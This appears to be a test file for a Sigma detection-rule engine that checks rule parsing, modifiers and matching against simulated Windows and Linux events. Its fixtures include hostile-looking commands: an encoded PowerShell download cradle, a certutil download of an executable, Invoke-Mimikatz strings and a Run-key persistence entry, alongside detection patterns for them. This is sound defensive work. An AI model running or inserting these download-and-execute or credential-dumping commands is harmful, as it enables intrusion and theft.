import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { describeRuleError, loadSigmaRule, matchEvent, RuleSet, SigmaRuleError } from "./index";
import { SYSLOG_FIELD } from "~/modules/events";
import {
  logCleared,
  security4688,
  securityLogon,
  sysmonFileCreate,
  sysmonProcess,
  sysmonRegistrySet,
} from "./fixtures/windows-events";

const rule = (detection: string, logsource = "  product: windows\n  category: process_creation") =>
  loadSigmaRule(`title: Test rule\nstatus: test\nlevel: high\nlogsource:\n${logsource}\ndetection:\n${detection}`);

const proc = (image: string, cmd: string, extra: Record<string, unknown> = {}) =>
  sysmonProcess(image, cmd, "C:\\Windows\\explorer.exe", extra);

function loadError(yaml: string): string {
  try {
    loadSigmaRule(yaml);
  } catch (e) {
    expect(e).toBeInstanceOf(SigmaRuleError);
    return describeRuleError(e as SigmaRuleError);
  }
  throw new Error("the rule loaded");
}

describe("Sigma specification examples", () => {
  // The specification's introductory example (Sigma v2, "Detection"), on Windows Security logons.
  const spec = loadSigmaRule(`title: Whoami Execution
id: 929a690e-bef0-4204-a928-ef5e620d6fcc
status: experimental
description: Detects a whoami.exe execution
references:
  - https://speakerdeck.com/heirhabarov/hunting-for-privilege-escalation-in-windows-environment
author: Florian Roth (Nextron Systems)
date: 2019-10-23
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image: 'C:\\Windows\\System32\\whoami.exe'
  condition: selection
level: high
tags:
  - attack.discovery
  - attack.t1033
`);
  it("keeps metadata", () => {
    expect(spec).toMatchObject({
      title: "Whoami Execution",
      id: "929a690e-bef0-4204-a928-ef5e620d6fcc",
      status: "experimental",
      level: "high",
      author: "Florian Roth (Nextron Systems)",
      date: "2019-10-23",
      tags: ["attack.discovery", "attack.t1033"],
      logsource: { category: "process_creation", product: "windows" },
    });
  });
  it("matches case-insensitively on Sysmon 1 and on Security 4688 with field renames", () => {
    expect(matchEvent(spec, proc("C:\\WINDOWS\\system32\\WHOAMI.exe", "whoami /all"))).toBe(true);
    expect(matchEvent(spec, proc("C:\\Windows\\System32\\hostname.exe", "hostname"))).toBe(false);
    expect(matchEvent(spec, security4688("C:\\Windows\\System32\\whoami.exe", "whoami", "C:\\Windows\\cmd.exe"))).toBe(
      true,
    );
  });

  it("lists of maps are OR, maps are AND, keyword lists search every value", () => {
    const r = rule(`  sel:
    - Image|endswith: '\\\\rundll32.exe'
      CommandLine|contains: 'javascript:'
    - Image|endswith: '\\\\mshta.exe'
  keywords:
    - 'vbscript'
  condition: sel or keywords`);
    expect(matchEvent(r, proc("C:\\Windows\\System32\\rundll32.exe", 'rundll32.exe javascript:"\\..\\mshtml"'))).toBe(
      true,
    );
    expect(matchEvent(r, proc("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"))).toBe(
      false,
    );
    expect(matchEvent(r, proc("C:\\Windows\\System32\\mshta.exe", "mshta.exe"))).toBe(true);
    expect(matchEvent(r, proc("C:\\Windows\\System32\\cmd.exe", "cmd /c start VBScript:Execute"))).toBe(true);
  });
});

describe("conditions", () => {
  const r = (cond: string) =>
    rule(`  selection_a:
    CommandLine|contains: alpha
  selection_b:
    CommandLine|contains: beta
  filter_c:
    CommandLine|contains: gamma
  _hidden:
    CommandLine|contains: delta
  condition: ${cond}`);
  const ev = (cmd: string) => proc("C:\\x.exe", cmd);
  const cases: Array<[string, string, boolean]> = [
    ["selection_a and selection_b", "alpha beta", true],
    ["selection_a and selection_b", "alpha", false],
    ["selection_a or selection_b", "beta", true],
    ["selection_a and not filter_c", "alpha gamma", false],
    ["selection_a and not filter_c", "alpha", true],
    ["not selection_a and selection_b", "beta", true],
    ["not (selection_a and selection_b)", "alpha beta", false],
    ["selection_a or selection_b and filter_c", "alpha", true], // and binds tighter than or
    ["(selection_a or selection_b) and filter_c", "alpha", false],
    ["1 of selection_*", "beta", true],
    ["all of selection_*", "beta", false],
    ["all of selection_*", "alpha beta", true],
    ["1 of them", "gamma", true],
    ["1 of them", "delta", false], // `them` leaves out names starting with _
    ["all of them", "alpha beta gamma", true],
    ["all of them", "alpha beta", false],
    ["1 of selection_* and not 1 of filter_*", "alpha gamma", false],
    ["selection_a AND NOT filter_c", "alpha", true],
  ];
  it.each(cases)("%s on '%s' -> %s", (cond, cmd, want) => {
    expect(matchEvent(r(cond), ev(cmd))).toBe(want);
  });
  it("refuses unknown selections, bad syntax and aggregations with the condition's line", () => {
    expect(() => r("selection_x")).toThrow(/unknown selection 'selection_x'/);
    expect(() => r("selection_a and")).toThrow(/ends too early/);
    expect(() => r("(selection_a")).toThrow(/expected '\)'/);
    expect(() => r("1 of nothing_*")).toThrow(/matches no selection/);
    expect(() => r("selection_a | count() > 5")).toThrow(/aggregation/);
    const msg = loadError(
      "title: t\nlogsource:\n  product: windows\ndetection:\n  sel:\n    a: 1\n  condition: sel and\n",
    );
    expect(msg).toMatch(/^line 7: /);
  });
});

describe("value semantics and modifiers", () => {
  const m = (detection: string, fields: Record<string, unknown>) =>
    matchEvent(rule(`  sel:\n${detection}\n  condition: sel`, "  product: json"), { product: "json", ...fields });

  it("wildcards, escapes, case and null", () => {
    expect(m("    f: 'a*c'", { f: "ABBBC" })).toBe(true);
    expect(m("    f: 'a?c'", { f: "abc" })).toBe(true);
    expect(m("    f: 'a?c'", { f: "abbc" })).toBe(false);
    expect(m("    f: 'a\\*c'", { f: "abc" })).toBe(false);
    expect(m("    f: 'a\\*c'", { f: "a*c" })).toBe(true);
    expect(m("    f: 'C:\\Windows\\x'", { f: "c:\\windows\\X" })).toBe(true);
    expect(m("    f: 'a\\\\*'", { f: "a\\zzz" })).toBe(true);
    expect(m("    f|cased: 'Abc'", { f: "abc" })).toBe(false);
    expect(m("    f|cased: 'Abc'", { f: "Abc" })).toBe(true);
    expect(m("    f: null", {})).toBe(true);
    expect(m("    f: null", { f: "" })).toBe(true);
    expect(m("    f: null", { f: "x" })).toBe(false);
    expect(m("    f: ''", { f: "" })).toBe(true);
    expect(m("    f: 4688", { f: "4688" })).toBe(true);
    expect(m("    f: '4688'", { f: 4688 })).toBe(true);
    expect(m("    f: true", { f: true })).toBe(true);
    expect(m("    f: [a, b]", { f: "b" })).toBe(true);
    expect(m("    f: x", { f: ["a", "X"] })).toBe(true);
  });
  it("contains, startswith, endswith, all", () => {
    expect(m("    f|contains: mid", { f: "aMIDb" })).toBe(true);
    expect(m("    f|startswith: ab", { f: "abc" })).toBe(true);
    expect(m("    f|startswith: ab", { f: "cab" })).toBe(false);
    expect(m("    f|endswith: bc", { f: "abc" })).toBe(true);
    expect(m("    f|contains|all: [a, z]", { f: "abc" })).toBe(false);
    expect(m("    f|contains|all: [a, c]", { f: "abc" })).toBe(true);
    expect(m("    f|contains: 'a*c'", { f: "xxabbbcxx" })).toBe(true);
  });
  it("re with i, m, s and a leading (?i)", () => {
    expect(m("    f|re: '^ab+c$'", { f: "abbbc" })).toBe(true);
    expect(m("    f|re: '^ab+c$'", { f: "ABBC" })).toBe(false);
    expect(m("    f|re|i: '^ab+c$'", { f: "ABBC" })).toBe(true);
    expect(m("    f|re: '(?i)^ab+c$'", { f: "ABBC" })).toBe(true);
    expect(m("    f|re|m: '^b$'", { f: "a\nb\nc" })).toBe(true);
    expect(m("    f|re: '^b$'", { f: "a\nb\nc" })).toBe(false);
    expect(m("    f|re|s: 'a.c'", { f: "a\nc" })).toBe(true);
    expect(m("    f|re: 'a.c'", { f: "a\nc" })).toBe(false);
  });
  it("re runs over a capped input, so a catastrophic pattern stays bounded", () => {
    const t = Date.now();
    expect(m("    f|re: '^(a+)+$'", { f: "a".repeat(20) + "!" })).toBe(false);
    expect(Date.now() - t).toBeLessThan(5000);
  });
  it("cidr on IPv4 and IPv6", () => {
    expect(m("    ip|cidr: 10.0.0.0/8", { ip: "10.20.30.40" })).toBe(true);
    expect(m("    ip|cidr: 10.0.0.0/8", { ip: "11.0.0.1" })).toBe(false);
    expect(m("    ip|cidr: 192.168.1.0/25", { ip: "192.168.1.200" })).toBe(false);
    expect(m("    ip|cidr: 'fe80::/10'", { ip: "fe80::1c2:3ff:fe4d:5e6f" })).toBe(true);
    expect(m("    ip|cidr: '2001:db8::/32'", { ip: "2001:db9::1" })).toBe(false);
    expect(m("    ip|cidr: '::1/128'", { ip: "::1" })).toBe(true);
    expect(m("    ip|cidr: [10.0.0.0/8, 172.16.0.0/12]", { ip: "172.20.1.1" })).toBe(true);
    expect(m("    ip|cidr: 10.0.0.0/8", { ip: "not an ip" })).toBe(false);
  });
  it("base64, base64offset, utf16le/wide, utf16be", () => {
    const b64 = (s: string, enc: BufferEncoding = "utf8") => Buffer.from(s, enc).toString("base64");
    expect(m("    f|base64: 'http://'", { f: b64("http://") })).toBe(true);
    expect(m("    f|base64|contains: 'http://'", { f: `xx${b64("http://")}yy` })).toBe(true);
    for (const prefix of ["", "a", "ab", "abc"]) {
      expect(
        m("    f|base64offset|contains: 'Invoke-Mimikatz'", { f: b64(`${prefix}IEX Invoke-Mimikatz -Dump`) }),
      ).toBe(true);
      expect(
        m("    f|wide|base64offset|contains: 'Invoke-Mimikatz'", {
          f: `powershell -enc ${b64(`${prefix}IEX Invoke-Mimikatz`, "utf16le")}`,
        }),
      ).toBe(true);
    }
    expect(m("    f|base64offset|contains: 'Invoke-Mimikatz'", { f: b64("nothing to see") })).toBe(false);
    expect(m("    f|utf16le|base64: 'ab'", { f: b64("ab", "utf16le") })).toBe(true);
    expect(m("    f|utf16be|base64: 'ab'", { f: Buffer.from([0, 0x61, 0, 0x62]).toString("base64") })).toBe(true);
  });
  it("windash", () => {
    for (const dash of ["-", "/", "\u2013", "\u2014", "\u2015"]) {
      expect(m("    f|windash|contains: ' -encodedcommand '", { f: `powershell ${dash}EncodedCommand SQBFAFgA` })).toBe(
        true,
      );
    }
    expect(m("    f|windash|contains: ' -encodedcommand '", { f: "powershell +EncodedCommand x" })).toBe(false);
  });
  it("exists, lt/lte/gt/gte, fieldref", () => {
    expect(m("    f|exists: true", { f: "" })).toBe(true);
    expect(m("    f|exists: true", {})).toBe(false);
    expect(m("    f|exists: false", {})).toBe(true);
    expect(m("    n|gt: 10", { n: 11 })).toBe(true);
    expect(m("    n|gt: 10", { n: "10" })).toBe(false);
    expect(m("    n|gte: 10", { n: "10" })).toBe(true);
    expect(m("    n|lt: 10", { n: 9.5 })).toBe(true);
    expect(m("    n|lte: 10", { n: "x" })).toBe(false);
    expect(m("    a|fieldref: b", { a: "Same", b: "same" })).toBe(true);
    expect(m("    a|fieldref: b", { a: "one", b: "two" })).toBe(false);
    expect(m("    a|fieldref|startswith: b", { a: "C:\\x\\y.exe", b: "c:\\x" })).toBe(true);
  });
  it("refuses an unknown modifier naming the line", () => {
    const msg = loadError(
      "title: t\nlogsource:\n  product: windows\ndetection:\n  sel:\n    Image|contains: a\n  sel2:\n    Image|sometimes: b\n  condition: sel and sel2\n",
    );
    expect(msg).toBe("line 8: selection 'sel2': field 'Image|sometimes': unknown modifier 'sometimes'");
  });
  it("refuses malformed rules with the line", () => {
    expect(loadError("title: t\nlogsource: windows\ndetection:\n  condition: x\n")).toMatch(
      /^line 2: 'logsource' is required/,
    );
    expect(loadError("title: [\n")).toMatch(/^line \d+: YAML/);
    expect(loadError("title: t\nlevel: severe\nlogsource: {}\ndetection:\n  s: {a: 1}\n  condition: s\n")).toMatch(
      /^line 2: 'level' must be one of/,
    );
    expect(loadError("logsource: {}\ndetection:\n  s: {a: 1}\n  condition: s\n")).toMatch(/'title' is required/);
    expect(loadError("title: t\nlogsource: {}\ndetection:\n  s: {a: 1}\n")).toMatch(
      /'detection.condition' is required/,
    );
    expect(loadError("title: t\nid: 12\nlogsource: {}\ndetection:\n  s: {a: 1}\n  condition: s\n")).toMatch(
      /^line 2: 'id' must be a UUID/,
    );
    expect(loadError("title: t\nlogsource: {}\ndetection:\n  s:\n    a|re: '(('\n  condition: s\n")).toMatch(
      /invalid regular expression/,
    );
  });
});

describe("logsource gating", () => {
  const procRule = rule("  sel:\n    CommandLine|contains: evil\n  condition: sel");
  const secRule = rule(
    "  sel:\n    CommandLine|contains: evil\n  condition: sel",
    "  product: windows\n  service: security",
  );
  const linuxRule = rule(
    "  sel:\n    CommandLine|contains: evil\n  condition: sel",
    "  product: linux\n  category: process_creation",
  );
  it("a rule never matches events of another logsource", () => {
    const sysmon1 = proc("C:\\x.exe", "evil");
    const reg = sysmonRegistrySet("HKLM\\x", "evil", "C:\\x.exe");
    expect(matchEvent(procRule, sysmon1)).toBe(true);
    expect(matchEvent(procRule, reg)).toBe(false);
    expect(matchEvent(secRule, sysmon1)).toBe(false);
    expect(matchEvent(secRule, security4688("C:\\x.exe", "evil", "C:\\p.exe"))).toBe(true);
    expect(matchEvent(linuxRule, sysmon1)).toBe(false);
    expect(matchEvent(procRule, { CommandLine: "evil" })).toBe(false);
    expect(matchEvent(procRule, { Channel: "Security", EventID: 4624, CommandLine: "evil" })).toBe(false);
  });
  it("maps categories to Sysmon event ids and services to channels", () => {
    const cats: Array<[string, unknown]> = [
      ["registry_set", sysmonRegistrySet("HKLM\\x", "evil", "C:\\x.exe")],
      ["registry_event", sysmonRegistrySet("HKLM\\x", "evil", "C:\\x.exe")],
      ["file_event", sysmonFileCreate("C:\\evil.txt", "C:\\x.exe")],
    ];
    for (const [category, ev] of cats) {
      const r = rule("  sel:\n  - 'evil'\n  condition: sel", `  product: windows\n  category: ${category}`);
      expect(matchEvent(r, ev)).toBe(true);
    }
    const sys = rule("  sel:\n    EventID: 104\n  condition: sel", "  product: windows\n  service: system");
    expect(matchEvent(sys, logCleared())).toBe(true);
    const sysmonService = rule("  sel:\n    EventID: 1\n  condition: sel", "  product: windows\n  service: sysmon");
    expect(matchEvent(sysmonService, proc("C:\\x.exe", "x"))).toBe(true);
    expect(matchEvent(sysmonService, logCleared())).toBe(false);
  });
  it("linux auditd and syslog by their field names, generic JSON by its own logsource", () => {
    const auditd = rule(
      "  sel:\n    type: EXECVE\n    a0: wget\n  condition: sel",
      "  product: linux\n  service: auditd",
    );
    expect(matchEvent(auditd, { type: "EXECVE", a0: "wget", a1: "http://x" })).toBe(true);
    expect(matchEvent(auditd, { type: "EXECVE", a0: "wget", appname: "sshd" })).toBe(true);
    const sshd = rule("  kw:\n  - 'Failed password'\n  condition: kw", "  product: linux\n  service: sshd");
    expect(matchEvent(sshd, { [SYSLOG_FIELD.app]: "sshd", message: "Failed password for root from 1.2.3.4" })).toBe(
      true,
    );
    expect(matchEvent(sshd, { [SYSLOG_FIELD.app]: "cron", message: "Failed password" })).toBe(false);
    const aws = rule("  sel:\n    eventName: ConsoleLogin\n  condition: sel", "  product: aws\n  service: cloudtrail");
    expect(matchEvent(aws, { product: "aws", service: "cloudtrail", eventName: "ConsoleLogin" })).toBe(true);
    expect(matchEvent(aws, { eventName: "ConsoleLogin" })).toBe(false);
  });
});

/** A small rule set in SigmaHQ style over realistic Windows events (evtx_dump JSON). */
const RULES = {
  encodedPowershell: `title: Suspicious Encoded PowerShell Command Line
id: ca2092a1-c273-4878-9b4b-0d60115bf5ea
status: test
author: Florian Roth (Nextron Systems), Markus Neis
logsource:
  category: process_creation
  product: windows
detection:
  selection_img:
    - Image|endswith:
        - '\\powershell.exe'
        - '\\pwsh.exe'
    - OriginalFileName:
        - 'PowerShell.EXE'
        - 'pwsh.dll'
  selection_cli_enc:
    CommandLine|windash|contains: ' -e'
  selection_cli_content:
    CommandLine|contains:
      - ' JAB'
      - ' SUVYI'
      - ' SQBFAFgA'
      - ' aQBlAHgA'
  filter_optional_gcemp:
    ParentImage|contains: 'C:\\Packages\\Plugins\\Microsoft.GuestConfiguration.ConfigurationforWindows\\'
  condition: all of selection_* and not 1 of filter_optional_*
level: high
tags:
  - attack.execution
  - attack.t1059.001
`,
  runKey: `title: Run Key Persistence From Temp
id: 3fc4a3c6-0a3e-4d7b-8d8b-1b6a0ad0f0a1
status: experimental
logsource:
  category: registry_set
  product: windows
detection:
  selection:
    TargetObject|contains: '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
    Details|contains:
      - '\\AppData\\Local\\Temp\\'
      - '\\Users\\Public\\'
  condition: selection
level: medium
tags:
  - attack.persistence
  - attack.t1547.001
`,
  startupLnk: `title: File Dropped In Startup Folder
id: 28208707-fe31-437f-9a7f-4b1108b94d2e
status: test
logsource:
  category: file_event
  product: windows
detection:
  selection:
    TargetFilename|contains: '\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\'
    TargetFilename|endswith:
      - '.lnk'
      - '.vbs'
      - '.bat'
  filter:
    Image|endswith: '\\explorer.exe'
  condition: selection and not filter
level: high
`,
  certutil: `title: Certutil Download
id: 19b08b1c-861d-4e75-a1ef-ea0c1baf202b
status: test
logsource:
  category: process_creation
  product: windows
detection:
  selection_img:
    - Image|endswith: '\\certutil.exe'
    - OriginalFileName: 'CertUtil.exe'
  selection_cli:
    CommandLine|contains|all:
      - 'urlcache'
      - 'http'
  condition: all of selection_*
level: high
`,
  logonFailureExternal: `title: Failed Network Logon From Public Address
id: 6bd3f2f2-7d93-4b11-9c3f-7a5cd0f9a7c1
status: experimental
logsource:
  product: windows
  service: security
detection:
  selection:
    EventID: 4625
    LogonType: 3
  filter_private:
    IpAddress|cidr:
      - '10.0.0.0/8'
      - '172.16.0.0/12'
      - '192.168.0.0/16'
      - '127.0.0.0/8'
      - '::1/128'
  condition: selection and not filter_private
level: medium
`,
};

describe("a rule set on realistic Windows events", () => {
  const rules = Object.fromEntries(Object.entries(RULES).map(([k, y]) => [k, loadSigmaRule(y)]));
  const set = new RuleSet(Object.values(rules));
  const enc =
    "powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
  const cases: Array<[string, unknown, string[]]> = [
    [
      "encoded powershell (Sysmon 1)",
      sysmonProcess("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", enc),
      ["encodedPowershell"],
    ],
    [
      "encoded powershell with /enc (Security 4688)",
      security4688(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        enc.replace("-Enc", "/enc"),
        "C:\\Windows\\System32\\cmd.exe",
      ),
      ["encodedPowershell"],
    ],
    [
      "encoded powershell from the guest configuration agent is filtered",
      sysmonProcess(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        enc,
        "C:\\Packages\\Plugins\\Microsoft.GuestConfiguration.ConfigurationforWindows\\1.29\\gc_service.exe",
      ),
      [],
    ],
    [
      "plain powershell",
      sysmonProcess(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -File C:\\scripts\\backup.ps1",
      ),
      [],
    ],
    [
      "certutil download",
      sysmonProcess(
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe",
      ),
      ["certutil"],
    ],
    [
      "certutil renamed (OriginalFileName)",
      sysmonProcess("C:\\Users\\alice\\cu.exe", "cu.exe -urlcache -f https://x/y", undefined, {
        OriginalFileName: "CertUtil.exe",
      }),
      ["certutil"],
    ],
    ["certutil hashing", sysmonProcess("C:\\Windows\\System32\\certutil.exe", "certutil -hashfile a.iso SHA256"), []],
    [
      "run key to temp",
      sysmonRegistrySet(
        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
        "C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe",
        "C:\\Users\\alice\\AppData\\Local\\Temp\\dropper.exe",
      ),
      ["runKey"],
    ],
    [
      "run key to program files",
      sysmonRegistrySet(
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
        "C:\\Windows\\System32\\msiexec.exe",
      ),
      [],
    ],
    [
      "startup lnk by a script",
      sysmonFileCreate(
        "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.lnk",
        "C:\\Windows\\System32\\wscript.exe",
      ),
      ["startupLnk"],
    ],
    [
      "startup lnk by explorer",
      sysmonFileCreate(
        "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\Teams.lnk",
        "C:\\Windows\\explorer.exe",
      ),
      [],
    ],
    [
      "failed logon from public address",
      securityLogon(4625, "administrator", "203.0.113.9", 3),
      ["logonFailureExternal"],
    ],
    ["failed logon from LAN", securityLogon(4625, "administrator", "10.1.2.3", 3), []],
    ["successful logon", securityLogon(4624, "administrator", "203.0.113.9", 3), []],
    ["log cleared", logCleared(), []],
  ];
  it.each(cases)("%s", (_name, event, want) => {
    const got = set.match(event).map((r) => Object.entries(rules).find(([, x]) => x === r)![0]);
    expect(got.sort()).toEqual([...want].sort());
    // the single-rule path (retro-hunt) agrees with the indexed set (streaming)
    for (const [name, r] of Object.entries(rules)) expect(matchEvent(r, event)).toBe(want.includes(name));
  });
});

describe("fuzz: random rules and events never throw", () => {
  const mods = [
    "contains",
    "startswith",
    "endswith",
    "all",
    "re",
    "cidr",
    "base64",
    "base64offset",
    "wide",
    "utf16be",
    "windash",
    "exists",
    "gt",
    "lte",
    "fieldref",
    "cased",
    "i",
    "bogus",
  ];
  const scalar = fc.oneof(fc.string({ maxLength: 12 }), fc.integer(), fc.boolean(), fc.constant(null));
  it("loading either succeeds or fails with a SigmaRuleError; matching never throws", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.tuple(
            fc.constantFrom("a", "b", "Image", "x.y"),
            fc.subarray(mods, { maxLength: 3 }),
            fc.oneof(scalar, fc.array(scalar, { maxLength: 3 })),
          ),
          {
            minLength: 1,
            maxLength: 4,
          },
        ),
        fc.constantFrom("sel", "not sel", "1 of them", "all of sel*", "sel and (kw or sel)", "sel |", "((sel"),
        fc.dictionary(
          fc.constantFrom("a", "b", "Image", "x", "Channel", "EventID"),
          fc.oneof(scalar, fc.array(scalar, { maxLength: 2 }), fc.dictionary(fc.string({ maxLength: 3 }), scalar)),
        ),
        (fields, condition, event) => {
          const sel = Object.fromEntries(fields.map(([f, m, v]) => [[f, ...m].join("|"), v]));
          const doc = { title: "fuzz", logsource: {}, detection: { sel, kw: ["a*b"], condition } };
          let r;
          try {
            r = loadSigmaRule(JSON.stringify(doc));
          } catch (e) {
            expect(e).toBeInstanceOf(SigmaRuleError);
            return;
          }
          expect(typeof matchEvent(r, event)).toBe("boolean");
          expect(typeof matchEvent(r, { Event: { System: event, EventData: event } })).toBe("boolean");
        },
      ),
      { numRuns: 400 },
    );
  });
  it("random YAML text never escapes as anything but a SigmaRuleError", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => {
        try {
          loadSigmaRule(`title: t\nlogsource: {}\ndetection:\n  s:\n    ${text}\n  condition: s\n`);
        } catch (e) {
          expect(e).toBeInstanceOf(SigmaRuleError);
        }
      }),
      { numRuns: 300 },
    );
  });
});
